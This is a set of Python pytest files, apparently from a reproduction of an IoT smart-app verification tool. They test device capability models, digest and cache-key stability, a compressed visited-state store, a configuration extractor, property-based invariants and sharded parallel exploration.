        assert effect.value == "unlocked"

    def test_command_effect_unknown(self):
        assert command_effect(["switch"], "teleport") is None

    def test_takes_arg_command(self):
        effect = command_effect(["switchLevel"], "setLevel")
        assert effect.takes_arg

    def test_every_command_targets_known_attribute(self):
        for cap in CAPABILITIES.values():
            for command in cap.commands.values():
                # the target attribute must exist in *some* capability
                # (momentary.push targets switch, owned by capability.switch)
                owners = [c for c in CAPABILITIES.values()
                          if command.attribute in c.attributes]
                assert owners, (cap.name, command.name)


class TestConflictingValues:
    def test_on_off_conflict(self):
        assert conflicting_values("on", "off")
        assert conflicting_values("off", "on")

    def test_lock_unlock_conflict(self):
        assert conflicting_values("locked", "unlocked")

    def test_open_close_conflict(self):
        assert conflicting_values("open", "closed")

    def test_same_value_no_conflict(self):
        assert not conflicting_values("on", "on")

    def test_unrelated_no_conflict(self):
        assert not conflicting_values("on", "locked")


class TestDeviceInstance:
    def test_initial_attributes_are_defaults(self):
        lock = DeviceInstance("front", "zwave-lock")
        attrs = lock.initial_attributes()
        assert attrs["lock"] == "locked"

    def test_sensor_event_values_exclude_current(self):
        motion = DeviceInstance("m", "smartsense-motion")
        values = motion.sensor_event_values("motion", "inactive")
        assert "active" in values
        assert "inactive" not in values

    def test_actuator_attribute_not_a_sensor_event(self):
        lock = DeviceInstance("l", "zwave-lock")
        assert "lock" not in lock.spec.sensor_attributes

    def test_garage_contact_is_sensor_event(self):
        # the garage door's contact state is physically observable
        garage = DeviceInstance("g", "garage-door-opener")
        assert "contact" in garage.spec.sensor_attributes

    def test_is_actuator_flags(self):
        assert DeviceInstance("o", "smart-outlet").spec.is_actuator
        assert not DeviceInstance("m", "smartsense-motion").spec.is_actuator

    def test_command_lookup(self):
        outlet = DeviceInstance("o", "smart-outlet")
        assert outlet.command("on").value == "on"
        assert outlet.command("warp") is None

    def test_label_defaults_to_name(self):
        device = DeviceInstance("kitchenette", "smart-outlet")
        assert device.display_name == "kitchenette"
