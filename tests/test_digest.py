"""Digest stability: declaration-order invariance, content sensitivity.

``IoTSystem.digest()`` / ``VerificationJob.cache_key()`` address the
vetting service's result store, so they must be *stable* (invariant
under app/device declaration order, binding-key order, repeated builds)
and *sensitive* (any handler body, device attribute, property-set or
semantic-option change produces a new digest).
"""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.config.schema import SystemConfiguration
from repro.engine.batch import VerificationJob
from repro.engine.options import EngineOptions
from repro.model.generator import ModelGenerator
from repro.properties import build_properties
from repro.smartapp import load_app

#: (name, type) pool for the permutation tests
_DEVICES = [
    ("alicePresence", "smartsense-presence"),
    ("doorLock", "zwave-lock"),
    ("frontMotion", "smartsense-motion"),
]

_APPS = [
    ("Auto Mode Change", {"people": ["alicePresence"], "awayMode": "Away",
                          "homeMode": "Home"}),
    ("Unlock Door", {"lock1": "doorLock"}),
]


def _config(device_order, app_order, binding_key_order=None):
    config = SystemConfiguration(contacts=["+1-555-0100"])
    for index in device_order:
        name, type_name = _DEVICES[index]
        config.add_device(name, type_name)
    config.association["main_door_lock"] = "doorLock"
    for index in app_order:
        app, bindings = _APPS[index]
        if binding_key_order is not None and index == 0:
            keys = sorted(bindings, key=lambda k: binding_key_order.index(k)
                          if k in binding_key_order else -1)
            bindings = {key: bindings[key] for key in keys}
        config.add_app(app, bindings)
    return config


@pytest.fixture(scope="module")
def reference_digest(generator):
    system = generator.build(_config(range(len(_DEVICES)),
                                     range(len(_APPS))), strict=False)
    return system.digest()


class TestDeclarationOrderInvariance:
    @settings(max_examples=20, deadline=None)
    @given(device_order=st.permutations(range(len(_DEVICES))),
           app_order=st.permutations(range(len(_APPS))),
           binding_keys=st.permutations(["people", "awayMode", "homeMode"]))
    def test_digest_is_declaration_order_invariant(
            self, registry, reference_digest, device_order, app_order,
            binding_keys):
        system = ModelGenerator(registry).build(
            _config(device_order, app_order, binding_key_order=binding_keys),
            strict=False)
        assert system.digest() == reference_digest

    @settings(max_examples=20, deadline=None)
    @given(device_order=st.permutations(range(len(_DEVICES))),
           app_order=st.permutations(range(len(_APPS))))
    def test_cache_key_is_declaration_order_invariant(
            self, device_order, app_order):
        reference = VerificationJob(
            "ref", _config(range(len(_DEVICES)), range(len(_APPS))),
            EngineOptions(max_events=2), strict=False).cache_key()
        shuffled = VerificationJob(
            "shuffled", _config(device_order, app_order),
            EngineOptions(max_events=2), strict=False).cache_key()
        assert shuffled == reference

    def test_job_name_is_not_part_of_the_key(self, alice_config):
        options = EngineOptions(max_events=2)
        assert VerificationJob("a", alice_config, options,
                               strict=False).cache_key() == \
            VerificationJob("b", alice_config, options,
                            strict=False).cache_key()

    def test_repeated_builds_agree(self, generator, alice_config):
        first = generator.build(alice_config, strict=False)
        second = generator.build(alice_config, strict=False)
        assert first.digest() == second.digest()


class TestContentSensitivity:
    def test_handler_body_change_changes_digest(self, registry, generator,
                                                alice_config):
        baseline = generator.build(alice_config, strict=False).digest()
        source = registry["Unlock Door"].source
        assert "lock1.unlock()" in source
        patched = load_app(
            source.replace("lock1.unlock()",
                           'log.debug "about to unlock"\n    lock1.unlock()'),
            "unlock-door-patched.groovy")
        assert patched.name == "Unlock Door"
        overlay = dict(registry)
        overlay[patched.name] = patched
        changed = ModelGenerator(overlay).build(alice_config, strict=False)
        assert changed.digest() != baseline

    def test_device_attribute_change_changes_digest(self, generator,
                                                    alice_config):
        baseline = generator.build(alice_config, strict=False).digest()
        changed_config = SystemConfiguration.from_dict(alice_config.to_dict())
        # a different device type carries a different attribute surface
        changed_config.devices[0].type = "smartsense-motion"
        changed = generator.build(changed_config, strict=False)
        assert changed.digest() != baseline

    def test_property_set_change_changes_digest(self, alice_system):
        catalog = build_properties()
        assert alice_system.digest(properties=catalog) != \
            alice_system.digest(properties=catalog[:10])
        assert alice_system.digest(properties=catalog) != \
            alice_system.digest()

    def test_property_order_does_not_change_digest(self, alice_system):
        catalog = build_properties()
        assert alice_system.digest(properties=catalog) == \
            alice_system.digest(properties=list(reversed(catalog)))

    def test_semantic_option_change_changes_digest(self, alice_system):
        assert alice_system.digest(options=EngineOptions(max_events=2)) != \
            alice_system.digest(options=EngineOptions(max_events=3))
        assert alice_system.digest(options=EngineOptions(visited="exact")) != \
            alice_system.digest(options=EngineOptions(visited="collapse"))

    def test_performance_knobs_do_not_change_digest(self, alice_system):
        assert alice_system.digest(options=EngineOptions(cache_limit=1)) == \
            alice_system.digest(options=EngineOptions(cache_limit=9999,
                                                      manage_gc=False,
                                                      check_interval=7))

    def test_engine_tier_does_not_change_digest(self, alice_system):
        """All execution tiers are proven observationally identical, so
        the engine choice is a pure performance knob: stored verdicts
        stay valid across tiers."""
        digests = {
            alice_system.digest(options=EngineOptions(engine=engine,
                                                      slab_size=8))
            for engine in ("interpreted", "compiled", "codegen")}
        assert len(digests) == 1
        assert digests == {alice_system.digest(options=EngineOptions())}

    def test_catalog_surface_change_changes_cache_key(self, alice_config,
                                                      monkeypatch):
        """A device-catalog edit (new attribute domain, default, command)
        must invalidate stored results even when the type *name* is
        unchanged."""
        import repro.devices.catalog as catalog

        options = EngineOptions(max_events=2)
        baseline = VerificationJob("a", alice_config, options,
                                   strict=False).cache_key()
        real_device_spec = catalog.device_spec
        edited = catalog.DeviceSpec(
            "zwave-lock", "Z-Wave Lock (edited)",
            real_device_spec("zwave-lock").capabilities
            + ("temperatureMeasurement",))

        def patched_device_spec(type_name):
            if type_name == "zwave-lock":
                return edited
            return real_device_spec(type_name)

        monkeypatch.setattr(catalog, "device_spec", patched_device_spec)
        assert VerificationJob("a", alice_config, options,
                               strict=False).cache_key() != baseline

    def test_unknown_device_type_digests_without_catalog(self):
        from repro.service.digest import config_payload

        config = SystemConfiguration()
        config.add_device("mystery", "no-such-type")
        payload = config_payload(config, registry={})
        assert payload["devices"][0]["surface"] is None

    def test_binding_value_change_changes_cache_key(self, alice_config):
        options = EngineOptions(max_events=2)
        baseline = VerificationJob("a", alice_config, options,
                                   strict=False).cache_key()
        changed = SystemConfiguration.from_dict(alice_config.to_dict())
        changed.apps[0].bindings["awayMode"] = "Night"
        assert VerificationJob("a", changed, options,
                               strict=False).cache_key() != baseline

    def test_source_overlay_changes_cache_key(self, registry, alice_config):
        options = EngineOptions(max_events=2)
        baseline = VerificationJob("a", alice_config, options,
                                   strict=False).cache_key()
        patched = registry["Unlock Door"].source.replace(
            "lock1.unlock()", 'log.debug "x"\n    lock1.unlock()')
        overlaid = VerificationJob("a", alice_config, options, strict=False,
                                   sources={"Unlock Door": patched})
        assert overlaid.cache_key() != baseline


class TestSwarmOptionClassification:
    """How the swarm knobs map onto semantic vs performance digests.

    ``mode`` decides *what kind of result* is produced (a sampled swarm
    result is not interchangeable with an exhaustive one), and within
    swarm mode the seed and member count decide *which sample* - so all
    three are semantic there.  Outside swarm mode, seed and member count
    are inert and must not fragment the exhaustive cache.
    """

    def test_mode_is_semantic(self, alice_system):
        assert (alice_system.digest(options=EngineOptions(mode="swarm"))
                != alice_system.digest(options=EngineOptions()))

    def test_seed_and_members_are_semantic_only_in_swarm_mode(
            self, alice_system):
        sequential = {
            alice_system.digest(options=EngineOptions(seed=seed,
                                                      swarm_members=members))
            for seed, members in ((0, 4), (1, 4), (0, 8))}
        assert sequential == {alice_system.digest(options=EngineOptions())}
        swarm = {
            alice_system.digest(options=EngineOptions(mode="swarm",
                                                      seed=seed,
                                                      swarm_members=members))
            for seed, members in ((0, 4), (1, 4), (0, 8))}
        assert len(swarm) == 3

    def test_bitstate_salt_is_semantic(self, alice_system):
        """The salt remaps which states a bitstate run *misses*, so two
        salts are two different (partial) explorations."""
        assert (alice_system.digest(
                    options=EngineOptions(visited="bitstate-k",
                                          bitstate_salt=1))
                != alice_system.digest(
                    options=EngineOptions(visited="bitstate-k")))

    def test_spill_residence_is_a_performance_knob(self, alice_system):
        """The spill store is exact - where the visited set *lives* must
        not change the digest (but which store semantics run does)."""
        assert (alice_system.digest(
                    options=EngineOptions(visited="spill", spill_dir="/tmp"))
                == alice_system.digest(options=EngineOptions(visited="spill")))
        assert (alice_system.digest(options=EngineOptions(visited="spill"))
                != alice_system.digest(options=EngineOptions(visited="exact")))
