"""The packed state schema and the collapse-compressed visited store.

Two contracts pin the tentpole down:

* **Round-trip**: ``schema.unpack(schema.pack(state))`` is canonically
  equal to ``state`` - exercised property-based over arbitrary device
  grids, attribute values, app states, schedules and off-schema
  components.
* **Store equivalence**: the collapse store, the exact store and the
  fingerprint store agree on every verdict over the whole bundled corpus,
  with and without the sleep-set reduction (the issue's "identical
  violation verdicts" acceptance bar).
"""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.config.schema import SystemConfiguration
from repro.corpus import load_all_apps
from repro.corpus.groups import GROUP_BUILDERS
from repro.engine import CollapseVisitedSet, verify
from repro.model.generator import ModelGenerator
from repro.model.state import ModelState

from tests.conftest import _load_or_skip


@pytest.fixture(scope="module")
def system(generator):
    config = SystemConfiguration()
    config.add_device("frontDoor", "smartsense-multi")
    config.add_device("hallSwitch", "smart-outlet")
    config.add_device("motion", "smartsense-motion")
    config.add_app("Brighten My Path", {"motion1": "motion",
                                        "switch1": "hallSwitch"})
    return generator.build(config)


@pytest.fixture(scope="module")
def schema(system):
    return system.state_schema()


# -- deterministic schema shape ---------------------------------------------


class TestSchemaShape:
    def test_compiled_once_per_system(self, system):
        assert system.state_schema() is system.state_schema()

    def test_layout_covers_every_spec_attribute(self, system, schema):
        for name, attrs, attr_set in schema.device_layout:
            assert set(attrs) == set(system.devices[name].spec.attributes)
            assert attr_set == frozenset(attrs)

    def test_component_count_matches_layout(self, schema):
        assert schema.component_count == (len(schema.device_layout)
                                          + len(schema.app_names) + 6)

    def test_initial_state_roundtrip(self, system, schema):
        state = system.initial_state()
        packed = schema.pack(state)
        assert schema.unpack(packed).canonical_key() == state.canonical_key()
        assert schema.pack(schema.unpack(packed)) == packed

    def test_pack_equality_matches_canonical_equality(self, system, schema):
        base = system.initial_state()
        twin = system.initial_state()
        assert schema.pack(base) == schema.pack(twin)
        twin.set_attribute("hallSwitch", "switch", "on")
        assert schema.pack(base) != schema.pack(twin)

    def test_pack_does_not_escape_containers(self, system, schema):
        state = system.initial_state()
        schema.pack(state)
        # packing must not disable COW sharing for subsequent branches
        assert not state._devices_escaped
        assert not state._apps_escaped_all and not state._escaped_apps


# -- property-based round-trip ----------------------------------------------

_VALUES = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-1000, 1000),
    st.text(max_size=8),
)

_APP_VALUES = st.one_of(
    _VALUES,
    st.lists(_VALUES, max_size=3),
    st.dictionaries(st.text(max_size=4), _VALUES, max_size=3),
)


def _arbitrary_states(schema):
    """States over (and deliberately off) one schema's grid."""
    device_names = [name for name, _, _ in schema.device_layout]
    all_attrs = sorted({attr for _, attrs, _ in schema.device_layout
                        for attr in attrs})

    @st.composite
    def states(draw):
        state = ModelState(mode=draw(st.sampled_from(["Home", "Away",
                                                      "Night"])))
        for name in draw(st.lists(st.sampled_from(
                device_names + ["ghostDevice"]), max_size=6, unique=True)):
            state._devices.setdefault(name, {})
            for attr in draw(st.lists(st.sampled_from(
                    all_attrs + ["offSchemaAttr"]), max_size=4, unique=True)):
                state.set_attribute(name, attr, draw(_VALUES))
        for name in draw(st.lists(st.sampled_from(
                list(schema.app_names) + ["Ghost App"]),
                max_size=3, unique=True)):
            mapping = state.app_state(name)
            mapping.update(draw(st.dictionaries(
                st.text(max_size=4), _APP_VALUES, max_size=3)))
        for handler in draw(st.lists(st.sampled_from(
                ["tick", "poll", "sunriseHandler"]), max_size=2,
                unique=True)):
            state.add_schedule("Ghost App", handler,
                               periodic=draw(st.booleans()))
        return state

    return states()


class TestPackRoundTripProperty:
    @settings(max_examples=120, deadline=None)
    @given(data=st.data())
    def test_unpack_pack_is_canonical_identity(self, data, schema):
        state = data.draw(_arbitrary_states(schema))
        packed = schema.pack(state)
        restored = schema.unpack(packed)
        assert restored.canonical_key() == state.canonical_key()
        # packing is stable through the round trip (pack o unpack = id)
        assert schema.pack(restored) == packed

    @settings(max_examples=120, deadline=None)
    @given(data=st.data())
    def test_collapse_key_separates_exactly_like_canonical(self, data,
                                                           schema):
        left = data.draw(_arbitrary_states(schema))
        right = data.draw(_arbitrary_states(schema))
        store = CollapseVisitedSet(schema)
        same_key = store.state_key(left) == store.state_key(right)
        assert same_key == (left.canonical_key() == right.canonical_key())


# -- collapse store behavior -------------------------------------------------

class TestCollapseStore:
    def test_depth_aware_revisits(self, system, schema):
        store = CollapseVisitedSet(schema)
        state = system.initial_state()
        assert store.seen_state(state, 2) is False
        assert store.seen_state(state.copy(), 3) is True
        assert store.seen_state(state.copy(), 1) is False
        assert store.seen_state(state.copy(), 1) is True
        assert len(store) == 1

    def test_distinguishes_states_exactly(self, system, schema):
        store = CollapseVisitedSet(schema)
        base = system.initial_state()
        changed = base.copy()
        changed.set_attribute("hallSwitch", "switch", "on")
        assert store.seen_state(base, 0) is False
        assert store.seen_state(changed, 0) is False
        assert store.seen_state(changed.copy(), 0) is True
        assert len(store) == 2

    def test_blocks_shared_across_states(self, system, schema):
        """COLLAPSE economics: states reusing component blocks add one
        fixed-width entry, not new arena blocks."""
        store = CollapseVisitedSet(schema)
        base = system.initial_state()
        store.seen_state(base, 0)
        blocks_before = len(store._blocks)
        toggled = base.copy()
        toggled.set_attribute("hallSwitch", "switch", "on")
        store.seen_state(toggled, 1)
        # exactly one device block differs; everything else interned
        assert len(store._blocks) == blocks_before + 1

    def test_stats_report_memory(self, system, schema):
        store = CollapseVisitedSet(schema)
        store.seen_state(system.initial_state(), 0)
        stats = store.stats()
        assert stats["stored"] == 1
        assert stats["blocks"] > 0
        assert stats["approx_bytes"] > 0
        assert stats["bytes_per_state"] > 0

    def test_memo_limit_bounds_pinning(self, system, schema):
        store = CollapseVisitedSet(schema)
        store.MEMO_LIMIT = 4
        state = system.initial_state()
        for index in range(8):
            branch = state.copy()
            branch.set_attribute("hallSwitch", "switch", "value%d" % index)
            store.seen_state(branch, 1)
        assert len(store._ident) <= 4
        # correctness survives eviction: a revisit still deduplicates
        again = state.copy()
        again.set_attribute("hallSwitch", "switch", "value7")
        assert store.seen_state(again, 1) is True


# -- corpus-wide verdict equivalence -----------------------------------------

class TestCorpusVerdictEquivalence:
    """All visited stores and reduction on/off: identical verdicts."""

    @pytest.mark.parametrize("group_name", sorted(GROUP_BUILDERS))
    def test_stores_and_reduction_agree(self, group_name):
        registry = _load_or_skip(load_all_apps)
        system = ModelGenerator(registry).build(
            GROUP_BUILDERS[group_name](), strict=False)
        from repro.properties import build_properties, select_relevant
        properties = select_relevant(system, build_properties())

        runs = {}
        for store in ("exact", "fingerprint", "collapse"):
            for reduction in (False, True):
                runs[(store, reduction)] = verify(
                    system, properties, max_events=2, visited=store,
                    reduction=reduction)

        baseline = runs[("exact", False)]
        for (store, reduction), result in runs.items():
            assert (result.violated_property_ids
                    == baseline.violated_property_ids), (group_name, store,
                                                         reduction)
            if not reduction:
                # unreduced runs cover the identical bounded space
                assert result.states_explored == baseline.states_explored, (
                    group_name, store)
            else:
                assert result.states_explored <= baseline.states_explored, (
                    group_name, store)
