"""Unit tests for the Configuration Extractor (§7)."""

import pytest

from repro.config.extractor import ConfigurationExtractor, extract_from_html
from repro.config.portal import ManagementPortal
from repro.config.schema import AppConfig, DeviceConfig, SystemConfiguration


def sample_config():
    config = SystemConfiguration(contacts=["+1-555-0100"],
                                 initial_mode="Home")
    config.add_device("alicePresence", "smartsense-presence",
                      "Alice's Presence")
    config.add_device("doorLock", "zwave-lock", "Door Lock")
    config.association.update({"main_door_lock": "doorLock",
                               "temp_low": 65})
    config.add_app("Auto Mode Change", {"people": ["alicePresence"],
                                        "awayMode": "Away",
                                        "homeMode": "Home"})
    config.add_app("Unlock Door", {"lock1": "doorLock"})
    return config


class TestSchema:
    def test_json_roundtrip(self):
        config = sample_config()
        restored = SystemConfiguration.from_json(config.to_json())
        assert restored.to_dict() == config.to_dict()

    def test_device_lookup(self):
        config = sample_config()
        assert config.device("doorLock").type == "zwave-lock"
        assert config.device("ghost") is None

    def test_device_names(self):
        assert sample_config().device_names() == ["alicePresence", "doorLock"]

    def test_default_modes(self):
        assert SystemConfiguration().modes == ["Home", "Away", "Night"]

    def test_validate_clean(self):
        assert sample_config().validate() == []

    def test_validate_duplicate_device(self):
        config = sample_config()
        config.add_device("doorLock", "zwave-lock")
        assert any("duplicate device" in e for e in config.validate())

    def test_validate_duplicate_app_instance(self):
        config = sample_config()
        config.add_app("Unlock Door", {"lock1": "doorLock"})
        assert any("duplicate app instance" in e for e in config.validate())

    def test_app_config_instance_name_defaults(self):
        app = AppConfig("Unlock Door")
        assert app.instance_name == "Unlock Door"

    def test_device_config_label_defaults(self):
        device = DeviceConfig("x", "zwave-lock")
        assert device.label == "x"


class TestPortalRoundTrip:
    """Portal renders HTML; the extractor crawls it back (the Jsoup path)."""

    @pytest.fixture()
    def extracted(self, registry):
        config = sample_config()
        portal = ManagementPortal(config)
        return ConfigurationExtractor(registry).extract(portal)

    def test_devices_roundtrip(self, extracted):
        assert {(d.name, d.type) for d in extracted.devices} == {
            ("alicePresence", "smartsense-presence"),
            ("doorLock", "zwave-lock")}

    def test_device_labels_roundtrip(self, extracted):
        assert extracted.device("doorLock").label == "Door Lock"

    def test_apps_roundtrip(self, extracted):
        assert [a.app for a in extracted.apps] == ["Auto Mode Change",
                                                   "Unlock Door"]

    def test_multi_device_binding_roundtrip(self, extracted):
        auto = extracted.apps[0]
        assert auto.bindings["people"] == ["alicePresence"]

    def test_scalar_bindings_roundtrip(self, extracted):
        auto = extracted.apps[0]
        assert auto.bindings["awayMode"] == "Away"

    def test_single_device_binding_roundtrip(self, extracted):
        unlock = extracted.apps[1]
        assert unlock.bindings["lock1"] == "doorLock"

    def test_contacts_roundtrip(self, extracted):
        assert extracted.contacts == ["+1-555-0100"]

    def test_modes_roundtrip(self, extracted):
        assert extracted.modes == ["Home", "Away", "Night"]
        assert extracted.initial_mode == "Home"

    def test_association_device_roundtrip(self, extracted):
        assert extracted.association["main_door_lock"] == "doorLock"

    def test_association_numeric_roundtrip(self, extracted):
        assert extracted.association["temp_low"] == 65

    def test_extracted_config_is_buildable(self, extracted, generator):
        system = generator.build(extracted)
        assert len(system.devices) == 2
        assert len(system.apps) == 2


class TestExtractorEdgeCases:
    def test_extract_json_path(self, registry):
        extractor = ConfigurationExtractor(registry)
        config = extractor.extract_json(sample_config().to_json())
        assert config.device("doorLock") is not None

    def test_empty_page(self):
        config = extract_from_html("<html><body></body></html>")
        assert config.devices == []
        assert config.apps == []

    def test_html_escaping_roundtrip(self, registry):
        config = SystemConfiguration()
        config.add_device("d1", "zwave-lock", 'Lock & "Main" <door>')
        extracted = ConfigurationExtractor(registry).extract(
            ManagementPortal(config))
        assert extracted.device("d1").label == 'Lock & "Main" <door>'
