"""Property-based tests on core data structures and invariants."""

import string

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.deps.events import ANY, EventDescriptor
from repro.deps.graph import DependencyGraph
from repro.groovy import parse
from repro.groovy.lexer import tokenize
from repro.model.state import ModelState

_IDENT = st.text(alphabet=string.ascii_lowercase, min_size=1, max_size=6)
_VALUE = st.one_of(st.integers(-1000, 1000), _IDENT, st.booleans(),
                   st.none())


# ---------------------------------------------------------------------------
# ModelState
# ---------------------------------------------------------------------------


_WRITES = st.lists(st.tuples(_IDENT, _IDENT, _VALUE), max_size=20)


class TestModelStateProperties:
    @given(_WRITES)
    def test_copy_preserves_key(self, writes):
        state = ModelState()
        for device, attribute, value in writes:
            state.set_attribute(device, attribute, value)
        assert state.copy().key() == state.key()

    @given(_WRITES)
    def test_copy_isolation(self, writes):
        state = ModelState()
        for device, attribute, value in writes:
            state.set_attribute(device, attribute, value)
        key_before = state.key()
        clone = state.copy()
        clone.set_attribute("zzz_new", "switch", "on")
        clone.mode = "Vacation"
        clone.app_state("ZApp")["x"] = 1
        assert state.key() == key_before

    @given(_WRITES, _WRITES)
    def test_key_equality_iff_same_writes(self, writes_a, writes_b):
        def final(writes):
            state = ModelState()
            for device, attribute, value in writes:
                state.set_attribute(device, attribute, value)
            return state

        a, b = final(writes_a), final(writes_b)
        same_content = a.devices == b.devices
        assert (a.key() == b.key()) == same_content

    @given(st.lists(st.tuples(_IDENT, _VALUE), max_size=12))
    def test_history_never_exceeds_limit(self, events):
        state = ModelState()
        for attribute, value in events:
            state.record_event("dev", attribute, value)
        assert len(state.device_history("dev")) <= ModelState.HISTORY_LIMIT


# ---------------------------------------------------------------------------
# event descriptors
# ---------------------------------------------------------------------------


_ATTR = st.sampled_from(["switch", "lock", "motion", "contact"])
_VAL = st.sampled_from([ANY, "on", "off", "locked", "unlocked", "active"])
_DESCRIPTORS = st.builds(EventDescriptor, _ATTR, _VAL)


class TestEventDescriptorProperties:
    @given(_DESCRIPTORS, _DESCRIPTORS)
    def test_overlap_symmetric(self, a, b):
        assert a.overlaps(b) == b.overlaps(a)

    @given(_DESCRIPTORS, _DESCRIPTORS)
    def test_conflict_symmetric(self, a, b):
        assert a.conflicts(b) == b.conflicts(a)

    @given(_DESCRIPTORS)
    def test_self_overlap(self, d):
        assert d.overlaps(d)

    @given(_DESCRIPTORS)
    def test_no_self_conflict(self, d):
        assert not d.conflicts(d)

    @given(_DESCRIPTORS, _DESCRIPTORS)
    def test_conflict_implies_same_attribute(self, a, b):
        if a.conflicts(b):
            assert a.attribute == b.attribute


# ---------------------------------------------------------------------------
# dependency graph / related sets
# ---------------------------------------------------------------------------


_EDGE_LISTS = st.lists(
    st.tuples(st.integers(0, 5), st.integers(0, 5)), max_size=12)


def _graph_from_edges(edges, vertex_count=6):
    attrs = ["a%d" % i for i in range(vertex_count)]
    graph = DependencyGraph()
    inputs = {v: [EventDescriptor("in%d" % v, ANY)]
              for v in range(vertex_count)}
    outputs = {v: [] for v in range(vertex_count)}
    for u, v in edges:
        outputs[u].append(EventDescriptor("in%d" % v, ANY))
    for v in range(vertex_count):
        graph.add_vertex([("App%d" % v, "h")], inputs[v], outputs[v])
    return graph.build_edges()


class TestGraphProperties:
    @given(_EDGE_LISTS)
    def test_merged_graph_is_acyclic(self, edges):
        merged = _graph_from_edges(edges).merge_sccs()
        # Kahn's algorithm must consume every vertex
        indegree = {v.id: len(merged.parents[v.id]) for v in merged.vertices}
        queue = [vid for vid, deg in indegree.items() if deg == 0]
        seen = 0
        while queue:
            current = queue.pop()
            seen += 1
            for child in merged.children[current]:
                indegree[child] -= 1
                if indegree[child] == 0:
                    queue.append(child)
        assert seen == len(merged.vertices)

    @given(_EDGE_LISTS)
    def test_merge_preserves_handlers(self, edges):
        graph = _graph_from_edges(edges)
        merged = graph.merge_sccs()
        original = {m for v in graph.vertices for m in v.members}
        preserved = {m for v in merged.vertices for m in v.members}
        assert original == preserved

    @given(_EDGE_LISTS)
    def test_related_sets_subset_free(self, edges):
        from repro.deps.related import compute_related_sets

        graph = _graph_from_edges(edges)
        _merged, sets = compute_related_sets(graph)
        for a in sets:
            for b in sets:
                if a is not b:
                    assert not a < b

    @given(_EDGE_LISTS)
    def test_every_leaf_covered_by_some_set(self, edges):
        from repro.deps.related import compute_related_sets

        graph = _graph_from_edges(edges)
        merged, sets = compute_related_sets(graph)
        for leaf in merged.leaves():
            assert any(leaf.id in s for s in sets)


# ---------------------------------------------------------------------------
# lexer / parser robustness
# ---------------------------------------------------------------------------


from repro.groovy.lexer import KEYWORDS

_SAFE_IDENT = _IDENT.filter(lambda name: name not in KEYWORDS)


class TestFrontendRobustness:
    @given(_SAFE_IDENT, st.integers(0, 10 ** 6))
    def test_assignment_roundtrip(self, name, number):
        program = parse("%s = %d" % (name, number))
        stmt = program.statements[0]
        assert stmt.target.id == name
        assert stmt.value.value == number

    @given(st.lists(st.integers(0, 100), max_size=6))
    def test_list_literal_roundtrip(self, items):
        source = "x = %s" % items
        stmt = parse(source).statements[0]
        assert [i.value for i in stmt.value.items] == items

    @given(st.text(alphabet=string.ascii_letters + " _0-9", max_size=20))
    def test_single_quoted_string_roundtrip(self, text):
        token = tokenize("'%s'" % text)[0]
        assert token.value == text

    @given(st.integers(0, 2 ** 31))
    def test_numbers_lex_exactly(self, number):
        token = tokenize(str(number))[0]
        assert token.value == number
