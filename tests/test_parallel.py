"""The sharded multi-process engine (:mod:`repro.engine.parallel`).

The acceptance bar of the swarm tentpole, pinned as tests:

* **corpus-wide equivalence** - ``workers=2`` reports the same verdict,
  the same violation set (dedup keys) and byte-identical rendered
  counterexample traces as the single-worker run, for every bundled
  expert group and all three full-coverage visited stores;
* **termination** - a system whose states are reachable through many
  commuting orders (maximal cross-shard handoff traffic) still
  terminates exhaustively: the counting protocol only stops when every
  shard is idle and the global sent/received handoff counters agree;
* **stats accounting** - the merged result accounts for every shard
  (states, transitions, handoffs), and the merged counters survive the
  versioned JSON round trip;
* **digest neutrality** - ``workers`` is a pure performance knob, so it
  must not change a job's content-addressed cache key.
"""

import pytest

from repro.config.schema import SystemConfiguration
from repro.corpus import load_all_apps
from repro.corpus.groups import GROUP_BUILDERS
from repro.engine import (
    EngineOptions,
    ExplorationResult,
    VerificationJob,
    explore_sharded,
)
from repro.engine.batch import execute_job, execute_job_inline

from tests.conftest import _load_or_skip


def _group_job(group_name, workers=1, **option_kwargs):
    _load_or_skip(load_all_apps)
    return VerificationJob(group_name, GROUP_BUILDERS[group_name](),
                           EngineOptions(max_events=2, workers=workers,
                                         **option_kwargs),
                           strict=False)


def _rendered_traces(result):
    return {key: ce.describe() for key, ce in result.counterexamples.items()}


# -- corpus-wide equivalence --------------------------------------------------


class TestCorpusEquivalence:
    """workers=2 == workers=1: verdicts, violation sets, traces, states."""

    @pytest.mark.parametrize("group_name", sorted(GROUP_BUILDERS))
    def test_sharded_matches_single_worker(self, group_name):
        for store in ("exact", "fingerprint", "collapse"):
            single = execute_job_inline(_group_job(group_name, visited=store))
            sharded = explore_sharded(_group_job(group_name, visited=store,
                                                 workers=2))
            assert sharded.verdict == single.verdict, (group_name, store)
            assert (sorted(sharded.counterexamples)
                    == sorted(single.counterexamples)), (group_name, store)
            # ownership partitioning preserves the distinct-state count
            assert (sharded.states_explored
                    == single.states_explored), (group_name, store)
            # the canonical trace per violation is scheduling-independent
            assert _rendered_traces(sharded) == _rendered_traces(single), (
                group_name, store)

    def test_sharded_with_reduction_keeps_verdicts(self):
        group_name = sorted(GROUP_BUILDERS)[0]
        single = execute_job_inline(_group_job(group_name, reduction=True))
        sharded = explore_sharded(_group_job(group_name, reduction=True,
                                             workers=2))
        assert (sharded.violated_property_ids
                == single.violated_property_ids)
        assert sorted(sharded.counterexamples) == sorted(single.counterexamples)


# -- termination under heavy cross-shard traffic ------------------------------


def _commuting_config():
    """Many independent sensors: states are reachable through every
    permutation of the triggering events, so almost every successor is
    owned by another shard and handoffs dominate the run."""
    config = SystemConfiguration()
    for index in range(4):
        config.add_device("motion%d" % index, "smartsense-motion")
        config.add_device("switch%d" % index, "smart-outlet")
        config.add_app("Brighten My Path", {"motion1": "motion%d" % index,
                                            "switch1": "switch%d" % index})
    return config


def _diamond_violation_config():
    """Commuting diamond prefixes *above* a violating suffix: the same
    violating state hangs below several equal-length event orders, so
    which prefix a shard's admission recorded is a queue-arrival race -
    exactly the case the trace canonicalization must neutralize."""
    config = _commuting_config()
    config.contacts.append("+1-555-0100")
    config.add_device("alicePresence", "smartsense-presence")
    config.add_device("doorLock", "zwave-lock")
    config.association["main_door_lock"] = "doorLock"
    config.add_app("Auto Mode Change", {"people": ["alicePresence"],
                                        "awayMode": "Away",
                                        "homeMode": "Home"})
    config.add_app("Unlock Door", {"lock1": "doorLock"})
    return config


class TestTraceDeterminism:
    def test_diamond_prefix_races_render_identically(self):
